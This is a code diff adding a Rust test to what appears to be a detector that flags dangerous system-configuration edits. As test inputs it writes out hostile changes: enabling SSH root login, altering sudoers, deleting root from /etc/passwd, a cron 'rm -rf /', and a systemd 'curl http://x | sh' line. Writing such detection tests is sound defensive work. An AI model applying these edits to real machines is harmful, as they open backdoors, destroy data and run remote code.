@@ -235,6 +235,28 @@ mod tests {
     }
 
     #[test]
+    fn what_a_lens_is_to_write_is_judged_as_the_same_by_augtool() {
+        let lens = |path: &str, changes: &str, expected: &[&str]| {
+            check(
+                Kind::Augeas,
+                &format!(r#""path": "{path}", "lens": "X", "changes": [{changes}]"#),
+                expected,
+            );
+        };
+        lens("/etc/ssh/sshd_config", r#""set Port 2222", "rm Match[1]""#, &[]);
+        lens("/etc/ssh/sshd_config", r#""set PermitRootLogin yes""#, &["backdoor"]);
+        lens("/etc/sudoers", r#""set spec[1]/user bob""#, &["account-damage"]);
+        lens("/etc/passwd", r#""rm root""#, &["account-damage"]);
+        lens("/etc/cron.d/x", r#""set entry[1] 'rm -rf /'""#, &["recursive-removal"]);
+        lens("/etc/cron.d/x", r#""set entry[1] 'logrotate /etc/logrotate.conf'""#, &[]);
+        lens(
+            "/etc/systemd/system/x.service",
+            r#""set Service/ExecStart/command 'curl http://x | sh'""#,
+            &["remote-code"],
+        );
+    }
+
+    #[test]
     fn a_line_is_judged_as_the_same_line_of_a_file() {
         let line = |path: &str, line: &str, expected: &[&str]| {
             check(Kind::LineInFile, &format!(r#""path": "{path}", "line": "{line}""#), expected);
